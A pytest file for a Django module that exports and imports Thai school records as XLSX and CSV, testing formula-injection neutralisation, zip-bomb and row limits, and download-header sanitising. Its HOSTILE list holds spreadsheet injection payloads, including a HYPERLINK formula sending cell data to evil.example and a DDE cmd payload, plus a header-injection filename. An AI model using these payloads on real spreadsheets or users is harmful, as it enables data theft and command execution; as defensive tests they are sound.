"""core.tabular: exports that never fail or run formulas, imports that stop at their limits."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from collections.abc import Iterable
from decimal import Decimal

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from core import tabular

C0 = "".join(chr(c) for c in range(0x20))
THAI = "ที่ ยอดเยี่ยม โพธิ์ โรงเรียนอนุบาลพระนครศรีอยุธยา (วัดพระศรีสรรเพชญ์)"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"คลิกเพื่อดูรายละเอียด")',
    "+66812345678",
    "-ลบ",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HEADERS = ["รหัสสถานศึกษา", "ชื่อสถานศึกษา", "หมายเหตุ", "จำนวน"]


def _rows() -> list[list[object]]:
    rows: list[list[object]] = [["0012345678", f"ก{C0}ข", THAI, -12]]
    rows += [["1099000100", text, f"{text}\x0b{C0}", -3.5] for text in HOSTILE]
    rows.append(["1099000200", None, Decimal("2.50"), dt.datetime(2026, 1, 5, 9, 30, tzinfo=dt.UTC)])
    return rows


def test_an_xlsx_export_opens_whatever_text_was_stored_and_holds_no_formula():
    body = tabular.write_xlsx(HEADERS, _rows(), title="ทะเบียนรับ/ส่ง [2569]: สพป.*?", text_columns=[0])
    workbook = load_workbook(io.BytesIO(body))
    sheet = workbook.active
    assert sheet.title == "ทะเบียนรับ ส่ง  2569   สพป."
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0] == HEADERS
    assert values[1] == ["0012345678", "ก\t\n\n\n\nข", THAI, -12]
    for row, text in zip(values[2:], HOSTILE, strict=False):
        assert row[1] == text.replace("\r", "\n")  # text, exactly as stored (bar the control characters)
        assert row[3] == -3.5  # a number stays a number
    assert values[-1][1:] == [None, 2.5, dt.datetime(2026, 1, 5, 16, 30)]  # Bangkok time, as Excel has no zones
    assert sheet["A2"].number_format == "@"


def test_a_csv_export_neutralises_formulas_but_keeps_numbers_numeric():
    body = tabular.write_csv(HEADERS, _rows())
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0] == HEADERS
    assert rows[1] == ["0012345678", "ก\t\n\n\n\nข", THAI, "-12"]
    names = [r[1] for r in rows[2:-1]]
    assert names == ["'" + t.replace("\r", "\n") for t in HOSTILE]
    assert [r[3] for r in rows[2:-1]] == ["-3.5"] * len(HOSTILE)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row[:3])
    assert tabular.write_csv(["ค่า"], [["-5"], ["-2.75"], [" =1+1"]]).decode("utf-8-sig").splitlines()[1:] == [
        "-5",
        "-2.75",
        "' =1+1",
    ]


def test_an_xlsx_export_cuts_a_cell_longer_than_excel_allows():
    long_text = "ข้อเสนอแนะ" * 5000
    sheet = load_workbook(io.BytesIO(tabular.write_xlsx(["ข้อความ"], [[long_text]]))).active
    assert sheet["A2"].value == long_text[: tabular.XLSX_MAX_CELL_CHARS]


# --- imports -------------------------------------------------------------------------------------

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
)
_ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="ข้อมูล" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
)


def _row_xml(n: int, *values: str) -> str:
    cells = "".join(f'<c r="{chr(65 + i)}{n}" t="inlineStr"><is><t>{v}</t></is></c>' for i, v in enumerate(values))
    return f'<row r="{n}">{cells}</row>'


def _xlsx(
    sheet_parts: Iterable[str], *, dimension: str | None = None, name: str = "schools.xlsx"
) -> SimpleUploadedFile:
    """An XLSX written part by part straight into the zip, so a sheet of millions of rows takes a moment."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _ROOT_RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(b'<?xml version="1.0" encoding="UTF-8"?>')
            sheet.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
            if dimension:
                sheet.write(f'<dimension ref="{dimension}"/>'.encode())
            sheet.write(b"<sheetData>")
            for part in sheet_parts:
                sheet.write(part.encode())
            sheet.write(b"</sheetData></worksheet>")
    return SimpleUploadedFile(name, out.getvalue())


def _distinct_rows(start: int, stop: int) -> Iterable[str]:
    """Rows unlike each other (as real school rows are), so they pack about as well as a real sheet."""
    for n in range(start, stop):
        yield _row_xml(n, f"{1099000000 + n * 7919 % 999983:010d}", f"โรงเรียนบ้าน{n * 31 % 9973}", str(n * 13 % 997))


def test_a_hand_built_xlsx_reads_like_one_from_excel():
    upload = _xlsx([_row_xml(1, "รหัส", "ชื่อ"), _row_xml(2, "1099000001", "โรงเรียนบ้าน\u2028ทดสอบ")])
    assert tabular.read_table(upload, required=["รหัส"]) == [{"รหัส": "1099000001", "ชื่อ": "โรงเรียนบ้าน\nทดสอบ"}]


def test_a_small_xlsx_holding_millions_of_rows_is_refused_before_it_is_unpacked():
    upload = _xlsx([_row_xml(1, "รหัส", "ชื่อ"), *(["<row><c><v>1</v></c></row>" * 10_000] * 500)])  # 5,000,001 rows
    assert upload.size < 1024 * 1024
    with pytest.raises(ValidationError, match="เมื่อแตกไฟล์แล้วมีขนาด 124 MB เกิน 50 MB"):
        tabular.read_table(upload, required=["รหัส"])


def test_an_xlsx_packed_far_tighter_than_any_spreadsheet_is_refused():
    filler = "<row><c><v>0</v></c></row>" * 100_000  # 2.6 MB packing to a few KB
    upload = _xlsx([_row_xml(1, "รหัส", "ชื่อ"), filler])
    with pytest.raises(ValidationError, match="ถูกบีบอัดผิดปกติ"):
        tabular.read_table(upload, required=["รหัส"])


def test_an_xlsx_declaring_more_rows_than_the_limit_is_refused_without_reading_them():
    upload = _xlsx([_row_xml(1, "รหัส", "ชื่อ"), _row_xml(2, "1099000001", "ก")], dimension="A1:B5000000")
    with pytest.raises(ValidationError, match="ไฟล์ระบุว่าแผ่นงานมี 5,000,000 แถว"):
        tabular.read_table(upload, required=["รหัส"])


def test_xlsx_reading_stops_at_the_row_limit_and_never_reaches_the_rest_of_the_sheet(monkeypatch):
    monkeypatch.setattr(tabular, "MAX_IMPORT_ROWS", 500)  # the rule, not the number, is under test: keep it quick
    # Past the limit the sheet is broken XML: reaching it would say "อ่านไฟล์ Excel ไม่ได้", not the limit.
    parts = [_row_xml(1, "รหัส", "ชื่อ", "จำนวน"), *_distinct_rows(2, 5000), "<row><c><broken"]
    # A stale dimension, as real files have; without any, openpyxl itself scans the whole sheet once at open.
    upload = _xlsx(parts, dimension="A1:C2")
    with pytest.raises(ValidationError, match="นำเข้าได้ครั้งละไม่เกิน 500 แถว"):
        tabular.read_table(upload, required=["รหัส"])
    broken_early = _xlsx([_row_xml(1, "รหัส", "ชื่อ"), *_distinct_rows(2, 100), "<row><c><broken"], dimension="A1:C2")
    with pytest.raises(ValidationError, match="อ่านไฟล์ Excel ไม่ได้"):
        tabular.read_table(broken_early, required=["รหัส"])


def test_an_xlsx_jumping_to_row_a_million_is_not_padded_with_a_million_empty_rows():
    upload = _xlsx([_row_xml(1, "รหัส", "ชื่อ"), _row_xml(2, "1099000001", "ก"), _row_xml(1_048_576, "x", "y")])
    with pytest.raises(ValidationError, match=f"ไฟล์มีเกิน {tabular.MAX_SHEET_ROWS:,} แถว"):
        tabular.read_table(upload, required=["รหัส"])


@pytest.mark.slow
def test_an_xlsx_at_the_row_limit_is_read_whole():
    limit = tabular.MAX_IMPORT_ROWS
    rows = tabular.read_table(_xlsx([_row_xml(1, "รหัส", "ชื่อ", "จำนวน"), *_distinct_rows(2, limit + 2)]), required=[])
    assert len(rows) == limit
    assert rows[-1]["ชื่อ"] == f"โรงเรียนบ้าน{(limit + 1) * 31 % 9973}"


def _csv(text: str) -> SimpleUploadedFile:
    return SimpleUploadedFile("schools.csv", text.encode("utf-8-sig"))


def test_csv_reading_stops_at_the_row_limit_and_never_reaches_the_rest_of_the_file():
    limit = tabular.MAX_IMPORT_ROWS
    body = "".join(f"{1099000000 + n},โรงเรียนบ้าน{n}\n" for n in range(limit + 1))
    poison = '"' + "ก" * 200_000 + '"\n'  # over csv's field size limit: reading it would fail differently
    with pytest.raises(ValidationError, match=f"นำเข้าได้ครั้งละไม่เกิน {limit:,} แถว"):
        tabular.read_table(_csv(f"รหัส,ชื่อ\n{body}{poison}"), required=["รหัส"])
    with pytest.raises(ValidationError, match="อ่านไฟล์ CSV ไม่ได้ รูปแบบไฟล์ไม่ถูกต้อง"):
        tabular.read_table(_csv(f"รหัส,ชื่อ\n{poison}"), required=["รหัส"])


def test_a_csv_of_empty_lines_stops_at_the_sheet_limit():
    with pytest.raises(ValidationError, match=f"ไฟล์มีเกิน {tabular.MAX_SHEET_ROWS:,} แถว"):
        tabular.read_table(_csv("รหัส,ชื่อ\n" + ",\n" * 1_000_000), required=["รหัส"])


def test_an_upload_over_the_size_limit_is_refused_unread():
    upload = SimpleUploadedFile("schools.csv", b"a" * (tabular.MAX_IMPORT_BYTES + 1))
    with pytest.raises(ValidationError, match="ไฟล์นำเข้าต้องมีขนาดไม่เกิน 5 MB"):
        tabular.read_table(upload, required=[])


def test_imported_cells_go_through_the_same_text_rule():
    wb = Workbook()
    # openpyxl itself refuses to write C0 controls; these are the invisible ones an XLSX can hold
    wb.active.append(["รหัส\u200b", "ชื่อ", "หมายเหตุ"])
    wb.active.append(["1099000001", "โรงเรียน\u2028บ้านทดสอบ\u200b", "บรรทัดแรก\r\nบรรทัดสอง\u202e"])
    wb.active.append([12345678, None, -4])
    out = io.BytesIO()
    wb.save(out)
    rows = tabular.read_table(SimpleUploadedFile("s.xlsx", out.getvalue()), required=["รหัส"])
    assert rows[0] == {"รหัส": "1099000001", "ชื่อ": "โรงเรียน\nบ้านทดสอบ", "หมายเหตุ": "บรรทัดแรก\nบรรทัดสอง"}
    assert isinstance(rows[1]["รหัส"], tabular.NumericCell) and rows[1]["หมายเหตุ"] == "-4"
    from_csv = tabular.read_table(_csv('รหัส,ชื่อ\r\n1099000001,"ก\x00\x0bข"\r\n'), required=["รหัส"])
    assert from_csv == [{"รหัส": "1099000001", "ชื่อ": "ก\nข"}]


def test_an_export_reads_back_through_the_import_unchanged():
    headers = ["รหัส", "ชื่อ", "หมายเหตุ", "ละติจูด"]
    data = [["0012345678", THAI, "=1+1", "-12.5"], ["1099000002", "+66812345678", "-ลบ", "14.97"]]
    for fmt, body in (
        ("xlsx", tabular.write_xlsx(headers, data, text_columns=[0])),
        ("csv", tabular.write_csv(headers, data)),
    ):
        rows = tabular.read_table(SimpleUploadedFile(f"back.{fmt}", body), required=headers)
        assert [list(r.values()) for r in rows] == data, fmt


def test_xlsx_cells_carry_their_type_and_show_dates_in_the_buddhist_era():
    headers = ["รหัสสถานศึกษา", "โทรศัพท์", "วันที่รับ", "เวลา", "จำนวนนักเรียน", "ละติจูด", "รหัสไปรษณีย์"]
    received = dt.datetime(2026, 11, 30, 2, 15, tzinfo=dt.UTC)
    row = ["0012345678", "0 4412 3456", dt.date(2026, 11, 30), received, 1250, Decimal("15.123456"), 30000]
    sheet = load_workbook(io.BytesIO(tabular.write_xlsx(headers, [row], text_columns=[6]))).active
    code, phone, date, stamp, pupils, latitude, postcode = sheet[2]
    assert (code.data_type, code.value, code.number_format) == ("s", "0012345678", "@")
    assert (phone.data_type, phone.value, phone.number_format) == ("s", "0 4412 3456", "@")
    assert date.is_date and date.value == dt.datetime(2026, 11, 30)
    assert date.number_format == tabular.XLSX_DATE_FORMAT == "[$-107041E]d mmm yyyy"  # 07 = Thai Buddhist calendar
    assert stamp.is_date and stamp.value == dt.datetime(2026, 11, 30, 9, 15)
    assert stamp.number_format == tabular.XLSX_DATETIME_FORMAT
    assert (pupils.data_type, pupils.value, pupils.number_format) == ("n", 1250, "General")
    assert (latitude.data_type, latitude.value) == ("n", 15.123456)
    assert (postcode.data_type, postcode.value, postcode.number_format) == ("s", "30000", "@")  # a text column
    assert [c.value for c in sheet[1]] == headers and all(c.data_type == "s" for c in sheet[1])


def test_a_plain_sentence_is_not_formatted_as_a_code():
    sheet = load_workbook(io.BytesIO(tabular.write_xlsx(["ชื่อ"], [["โรงเรียนบ้านหนองบัว 2"], ["-"]]))).active
    assert sheet["A2"].number_format == "General"
    assert sheet["A3"].number_format == "General"


def test_a_download_keeps_its_thai_name_with_an_ascii_fallback():
    from urllib.parse import unquote

    header = tabular.attachment_disposition("ทะเบียนสถานศึกษา-2569-11-30.xlsx", fallback="schools-2569-11-30.xlsx")
    assert header.startswith('attachment; filename="schools-2569-11-30.xlsx"; ')
    encoded = header.split("filename*=UTF-8''", 1)[1]
    assert encoded.isascii() and unquote(encoded) == "ทะเบียนสถานศึกษา-2569-11-30.xlsx"


def test_a_download_name_cannot_break_the_header():
    header = tabular.attachment_disposition('รายงาน"; filename=evil.exe\r\nX-Evil: 1/..\\ก.pdf')
    assert "\r" not in header and "\n" not in header
    fallback = header.split('filename="', 1)[1].split('"', 1)[0]
    assert fallback.isascii() and fallback.endswith(".pdf") and not set(fallback) & set('"\\/;:')
    assert header.count('"') == 2
    assert tabular.attachment_disposition("ทะเบียน.csv").startswith('attachment; filename="download.csv"; ')
